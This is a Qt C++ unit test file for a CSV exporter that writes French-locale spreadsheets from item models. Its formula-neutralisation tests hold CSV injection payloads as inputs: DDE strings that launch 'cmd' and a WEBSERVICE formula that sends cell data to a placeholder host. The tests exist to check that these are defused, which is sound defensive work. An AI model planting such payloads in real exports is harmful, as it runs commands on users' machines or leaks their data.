#include <core/formats/csvwriter.h>

#include <QBuffer>
#include <QDate>
#include <QDateTime>
#include <QStandardItemModel>
#include <QTest>

#include <cmath>
#include <limits>

using namespace Civitas;

// Holds all its rows but shows them a page at a time, as QSqlQueryModel and SqlListModel do:
// an export that only walks rowCount() would stop after the first page.
class LazyModel : public QStandardItemModel
{
public:
    LazyModel(int rows, int pageSize)
        : QStandardItemModel(rows, 3)
        , m_pageSize(pageSize)
    {
        setHorizontalHeaderLabels(
            {QStringLiteral("Matricule"), QStringLiteral("Nom"), QStringLiteral("Heures")});
        for (int row = 0; row < rows; ++row) {
            setItem(
                row, 0, new QStandardItem(QStringLiteral("A%1").arg(row, 4, 10, QLatin1Char('0'))));
            setItem(row, 1, new QStandardItem(QStringLiteral("Agent n°%1").arg(row)));
            auto *hours = new QStandardItem;
            hours->setData(row + 0.5, Qt::DisplayRole);
            setItem(row, 2, hours);
        }
    }

    int rowCount(const QModelIndex &parent = {}) const override
    {
        return parent.isValid() ? 0 : m_revealed;
    }
    bool canFetchMore(const QModelIndex &parent) const override
    {
        return !parent.isValid() && m_revealed < QStandardItemModel::rowCount(parent);
    }
    void fetchMore(const QModelIndex &parent) override
    {
        const int total = QStandardItemModel::rowCount(parent);
        const int next = qMin(total, m_revealed + m_pageSize);
        if (next == m_revealed)
            return;
        beginInsertRows(parent, m_revealed, next - 1);
        m_revealed = next;
        endInsertRows();
        ++m_fetches;
    }

    int fetches() const { return m_fetches; }

private:
    int m_pageSize;
    int m_revealed = 0;
    int m_fetches = 0;
};

class tst_CsvWriter : public QObject
{
    Q_OBJECT

private slots:
    void bomSeparatorAndLineEnds();
    void quoting_data();
    void quoting();
    void valuesByType_data();
    void valuesByType();
    void formatCents_data();
    void formatCents();
    void headerAfterRowsIsRefused();
    void closedDeviceIsAnError();
    void modelExportFetchesEveryRow();
    void modelExportPrefersTypedValues();
    void modelExportChosenColumns();
    void modelExportWithoutRowsWritesHeader();
    void formulasAreNeutralised_data();
    void formulasAreNeutralised();
    void modelExportNeutralisesFormulas();
};

static QByteArray bom()
{
    return QByteArray("\xEF\xBB\xBF");
}

void tst_CsvWriter::bomSeparatorAndLineEnds()
{
    QBuffer buffer;
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    CsvWriter writer(&buffer);
    QVERIFY(writer.setHeader(
        {QStringLiteral("Nom"), QStringLiteral("Prénom"), QStringLiteral("Entrée")}));
    QVERIFY(
        writer.writeRow({QStringLiteral("Dupont"), QStringLiteral("Élodie"), QDate(2024, 3, 5)}));
    QVERIFY(writer.writeRow({QStringLiteral("Martin"), QVariant(), 12.5}));
    QVERIFY(!writer.hasError());
    QCOMPARE(buffer.data(),
             bom()
                 + "Nom;Pr\xC3\xA9nom;Entr\xC3\xA9"
                   "e\r\n"
                   "Dupont;\xC3\x89lodie;05/03/2024\r\n"
                   "Martin;;12,5\r\n");
}

void tst_CsvWriter::quoting_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("field");

    QTest::newRow("plain") << QStringLiteral("Bron") << QStringLiteral("Bron");
    QTest::newRow("empty") << QString() << QString();
    QTest::newRow("accents") << QStringLiteral("Hôtel de ville")
                             << QStringLiteral("Hôtel de ville");
    QTest::newRow("comma is not the separator")
        << QStringLiteral("Dupont, Jean") << QStringLiteral("Dupont, Jean");
    QTest::newRow("separator") << QStringLiteral("a;b") << QStringLiteral("\"a;b\"");
    QTest::newRow("quotes doubled")
        << QStringLiteral("le \"Central\"") << QStringLiteral("\"le \"\"Central\"\"\"");
    QTest::newRow("line feed") << QStringLiteral("1 rue\nBron")
                               << QStringLiteral("\"1 rue\nBron\"");
    QTest::newRow("carriage return") << QStringLiteral("a\rb") << QStringLiteral("\"a\rb\"");
    QTest::newRow("leading space") << QStringLiteral(" x") << QStringLiteral("\" x\"");
    QTest::newRow("trailing space") << QStringLiteral("x ") << QStringLiteral("\"x \"");
    QTest::newRow("inner space") << QStringLiteral("x y") << QStringLiteral("x y");
}

void tst_CsvWriter::quoting()
{
    QFETCH(QString, text);
    QFETCH(QString, field);
    QCOMPARE(CsvWriter::quoteField(text), field);

    QBuffer buffer;
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    CsvWriter writer(&buffer);
    QVERIFY(writer.writeRow({text, QStringLiteral("z")}));
    QCOMPARE(buffer.data(), bom() + field.toUtf8() + ";z\r\n");
}

void tst_CsvWriter::valuesByType_data()
{
    QTest::addColumn<QVariant>("value");
    QTest::addColumn<QString>("text");

    QTest::newRow("double") << QVariant(1234.5) << QStringLiteral("1234,5");
    QTest::newRow("double, no thousands separator")
        << QVariant(1234567.25) << QStringLiteral("1234567,25");
    QTest::newRow("negative double") << QVariant(-0.75) << QStringLiteral("-0,75");
    QTest::newRow("tenth") << QVariant(0.1) << QStringLiteral("0,1");
    QTest::newRow("whole double") << QVariant(3.0) << QStringLiteral("3");
    QTest::newRow("large double, no exponent")
        << QVariant(1e20) << QStringLiteral("100000000000000000000");
    QTest::newRow("small double, no exponent") << QVariant(0.000015) << QStringLiteral("0,000015");
    QTest::newRow("negative zero") << QVariant(-0.0) << QStringLiteral("0");
    QTest::newRow("float") << QVariant(0.1f) << QStringLiteral("0,1");
    QTest::newRow("nan") << QVariant(std::nan("")) << QString();
    QTest::newRow("int") << QVariant(-42) << QStringLiteral("-42");
    QTest::newRow("qlonglong") << QVariant(qlonglong(9007199254740993LL))
                               << QStringLiteral("9007199254740993");
    QTest::newRow("uint") << QVariant(4000000000u) << QStringLiteral("4000000000");
    QTest::newRow("date") << QVariant(QDate(2024, 3, 5)) << QStringLiteral("05/03/2024");
    QTest::newRow("invalid date") << QVariant(QDate()) << QString();
    QTest::newRow("date time, local") << QVariant(QDateTime(QDate(2024, 12, 31), QTime(8, 7, 59)))
                                      << QStringLiteral("31/12/2024 08:07");
    QTest::newRow("time") << QVariant(QTime(17, 45)) << QStringLiteral("17:45");
    QTest::newRow("true") << QVariant(true) << QStringLiteral("yes");
    QTest::newRow("false") << QVariant(false) << QStringLiteral("no");
    QTest::newRow("null") << QVariant() << QString();
    QTest::newRow("text stays text") << QVariant(QStringLiteral("1.5")) << QStringLiteral("1.5");
}

void tst_CsvWriter::valuesByType()
{
    QFETCH(QVariant, value);
    QFETCH(QString, text);
    QCOMPARE(CsvWriter::formatValue(value), text);
}

void tst_CsvWriter::formatCents_data()
{
    QTest::addColumn<qint64>("cents");
    QTest::addColumn<QString>("text");

    QTest::newRow("zero") << qint64(0) << QStringLiteral("0,00");
    QTest::newRow("five cents") << qint64(5) << QStringLiteral("0,05");
    QTest::newRow("minus five cents") << qint64(-5) << QStringLiteral("-0,05");
    QTest::newRow("one euro") << qint64(100) << QStringLiteral("1,00");
    QTest::newRow("no grouping") << qint64(123456) << QStringLiteral("1234,56");
    QTest::newRow("negative") << qint64(-123456) << QStringLiteral("-1234,56");
    QTest::newRow("largest") << std::numeric_limits<qint64>::max()
                             << QStringLiteral("92233720368547758,07");
    QTest::newRow("smallest") << std::numeric_limits<qint64>::min()
                              << QStringLiteral("-92233720368547758,08");
}

void tst_CsvWriter::formatCents()
{
    QFETCH(qint64, cents);
    QFETCH(QString, text);
    QCOMPARE(CsvWriter::formatCents(cents), text);
}

void tst_CsvWriter::headerAfterRowsIsRefused()
{
    QBuffer buffer;
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    CsvWriter writer(&buffer);
    QVERIFY(writer.writeRow({1}));
    QVERIFY(!writer.setHeader({QStringLiteral("n")}));
    QVERIFY(writer.hasError());
    QVERIFY(!writer.errorString().isEmpty());
    QCOMPARE(buffer.data(), bom() + "1\r\n");
}

void tst_CsvWriter::closedDeviceIsAnError()
{
    QBuffer buffer; // not open
    CsvWriter writer(&buffer);
    QVERIFY(!writer.writeRow({1}));
    QVERIFY(writer.hasError());

    QString error;
    QStandardItemModel model(1, 1);
    QVERIFY(!CsvWriter::writeModel(&model, &buffer, &error));
    QVERIFY(!error.isEmpty());
}

void tst_CsvWriter::modelExportFetchesEveryRow()
{
    LazyModel model(1000, 256);
    model.fetchMore({}); // what a view does when it shows the model
    QCOMPARE(model.rowCount(), 256);

    QBuffer buffer;
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    QString error;
    QVERIFY2(CsvWriter::writeModel(&model, &buffer, &error), qPrintable(error));
    QCOMPARE(model.rowCount(), 1000);
    QVERIFY(model.fetches() > 1);

    QByteArray data = buffer.data();
    QVERIFY(data.startsWith(bom()));
    data.remove(0, 3);
    QVERIFY(data.endsWith("\r\n"));
    const QList<QByteArray> lines = data.chopped(2).split('\n');
    QCOMPARE(lines.size(), 1 + 1000);
    QCOMPARE(lines.at(0), QByteArray("Matricule;Nom;Heures\r"));
    QCOMPARE(lines.at(1),
             QByteArray("A0000;Agent n\xC2\xB0"
                        "0;0,5\r"));
    QCOMPARE(lines.at(256),
             QByteArray("A0255;Agent n\xC2\xB0"
                        "255;255,5\r"));
    QCOMPARE(lines.at(257),
             QByteArray("A0256;Agent n\xC2\xB0"
                        "256;256,5\r"));
    QCOMPARE(lines.last(),
             QByteArray("A0999;Agent n\xC2\xB0"
                        "999;999,5"));
}

void tst_CsvWriter::modelExportPrefersTypedValues()
{
    QStandardItemModel model(1, 6);
    model.setHorizontalHeaderLabels({QStringLiteral("Date"),
                                     QStringLiteral("Taux"),
                                     QStringLiteral("Montant"),
                                     QStringLiteral("Part"),
                                     QStringLiteral("Titulaire"),
                                     QStringLiteral("Note")});
    auto item = [](const QString &display, const QVariant &raw) {
        auto *it = new QStandardItem(display);
        if (raw.isValid())
            it->setData(raw, Qt::UserRole);
        return it;
    };
    // A date shown in words: the raw date is what the spreadsheet can sort.
    model.setItem(0, 0, item(QStringLiteral("5 mars 2024"), QDate(2024, 3, 5)));
    // A rounded, grouped display of the raw number: the raw number is exact.
    model.setItem(0, 1, item(QStringLiteral("1\u202F234,57"), 1234.5678));
    // Money shown in euros over raw cents: the raw value would be a hundred times too big.
    model.setItem(0, 2, item(QStringLiteral("12,50 €"), qint64(1250)));
    // A percentage over its fraction: writing 0,125 would change what the user saw.
    model.setItem(0, 3, item(QStringLiteral("12,5 %"), 0.125));
    model.setItem(0, 4, item(QStringLiteral("Oui"), true));
    // Typed display value, no raw value.
    auto *note = new QStandardItem;
    note->setData(15.25, Qt::DisplayRole);
    model.setItem(0, 5, note);

    QBuffer buffer;
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    QString error;
    QVERIFY2(CsvWriter::writeModel(&model, &buffer, &error), qPrintable(error));
    QCOMPARE(buffer.data(),
             bom()
                 + "Date;Taux;Montant;Part;Titulaire;Note\r\n"
                   "05/03/2024;1234,5678;12,50 \xE2\x82\xAC;12,5 %;yes;15,25\r\n");
}

void tst_CsvWriter::modelExportChosenColumns()
{
    QStandardItemModel model(2, 3);
    model.setHorizontalHeaderLabels(
        {QStringLiteral("a"), QStringLiteral("b"), QStringLiteral("c")});
    for (int row = 0; row < 2; ++row) {
        for (int column = 0; column < 3; ++column)
            model.setItem(
                row, column, new QStandardItem(QStringLiteral("%1%2").arg(row).arg(column)));
    }
    QBuffer buffer;
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    QString error;
    QVERIFY2(CsvWriter::writeModel(&model, &buffer, &error, {2, 0}), qPrintable(error));
    QCOMPARE(buffer.data(), bom() + "c;a\r\n02;00\r\n12;10\r\n");

    QBuffer other;
    QVERIFY(other.open(QIODevice::WriteOnly));
    QVERIFY(!CsvWriter::writeModel(&model, &other, &error, {3}));
    QVERIFY(error.contains(QLatin1Char('3')));
}

void tst_CsvWriter::modelExportWithoutRowsWritesHeader()
{
    QStandardItemModel model(0, 2);
    model.setHorizontalHeaderLabels({QStringLiteral("Nom"), QStringLiteral("Service; pôle")});
    QBuffer buffer;
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    QString error;
    QVERIFY2(CsvWriter::writeModel(&model, &buffer, &error), qPrintable(error));
    QCOMPARE(buffer.data(), bom() + "Nom;\"Service; p\xC3\xB4le\"\r\n");
}

void tst_CsvWriter::formulasAreNeutralised_data()
{
    QTest::addColumn<QVariant>("value");
    QTest::addColumn<QByteArray>("field");
    // Formula-like text gets an apostrophe in front (OWASP), then the usual quoting.
    QTest::newRow("equals") << QVariant(QStringLiteral("=1+1")) << QByteArray("'=1+1");
    QTest::newRow("hyperlink") << QVariant(QStringLiteral("=HYPERLINK(\"http://x\";\"y\")"))
                               << QByteArray("\"'=HYPERLINK(\"\"http://x\"\";\"\"y\"\")\"");
    QTest::newRow("plus dde") << QVariant(QStringLiteral("+1+cmd|' /C calc'!A0"))
                              << QByteArray("'+1+cmd|' /C calc'!A0");
    QTest::newRow("minus sum") << QVariant(QStringLiteral("-2+3+cmd|' /C calc'!A0"))
                               << QByteArray("'-2+3+cmd|' /C calc'!A0");
    QTest::newRow("at") << QVariant(QStringLiteral("@SUM(A1:A9)")) << QByteArray("'@SUM(A1:A9)");
    QTest::newRow("tab") << QVariant(QStringLiteral("\t=1+1")) << QByteArray("'\t=1+1");
    QTest::newRow("carriage return")
        << QVariant(QStringLiteral("\r=1+1")) << QByteArray("\"'\r=1+1\"");
    QTest::newRow("after spaces") << QVariant(QStringLiteral("  =1+1")) << QByteArray("'  =1+1");
    // What is not a formula stays as it is: numbers (typed or as text), phone numbers, dashes.
    QTest::newRow("negative int") << QVariant(-42) << QByteArray("-42");
    QTest::newRow("negative double") << QVariant(-0.75) << QByteArray("-0,75");
    QTest::newRow("negative amount text")
        << QVariant(QStringLiteral("-12,50 €")) << QByteArray("-12,50 \xE2\x82\xAC");
    QTest::newRow("signed percent") << QVariant(QStringLiteral("+5 %")) << QByteArray("+5 %");
    QTest::newRow("phone") << QVariant(QStringLiteral("+33 4 72 10 30 30"))
                           << QByteArray("+33 4 72 10 30 30");
    QTest::newRow("dash") << QVariant(QStringLiteral("-")) << QByteArray("-");
    QTest::newRow("inner equals") << QVariant(QStringLiteral("a=b")) << QByteArray("a=b");
    QTest::newRow("email") << QVariant(QStringLiteral("x@mairie.fr")) << QByteArray("x@mairie.fr");
}

void tst_CsvWriter::formulasAreNeutralised()
{
    QFETCH(QVariant, value);
    QFETCH(QByteArray, field);
    QBuffer buffer;
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    CsvWriter writer(&buffer);
    QVERIFY(writer.setHeader({QStringLiteral("=cmd"), QStringLiteral("b")}));
    QVERIFY(writer.writeRow({value, QStringLiteral("z")}));
    QCOMPARE(buffer.data(), bom() + "'=cmd;b\r\n" + field + ";z\r\n");
}

void tst_CsvWriter::modelExportNeutralisesFormulas()
{
    // What an agent typed into a free-text field reaches the export through a model.
    QStandardItemModel model(2, 2);
    model.setHorizontalHeaderLabels({QStringLiteral("Nom"), QStringLiteral("Téléphone")});
    model.setData(model.index(0, 0), QStringLiteral("=WEBSERVICE(\"http://x/?\"&A2)"));
    model.setData(model.index(0, 1), QStringLiteral("+33 4 72 10 30 30"));
    model.setData(model.index(1, 0), QStringLiteral("Dupont"));
    model.setData(model.index(1, 1), -3);
    QBuffer buffer;
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    QString error;
    QVERIFY2(CsvWriter::writeModel(&model, &buffer, &error), qPrintable(error));
    QCOMPARE(buffer.data(),
             bom()
                 + "Nom;T\xC3\xA9l\xC3\xA9phone\r\n"
                   "\"'=WEBSERVICE(\"\"http://x/?\"\"&A2)\";+33 4 72 10 30 30\r\n"
                   "Dupont;-3\r\n");
}

QTEST_GUILESS_MAIN(tst_CsvWriter)

#include "tst_csvwriter.moc"
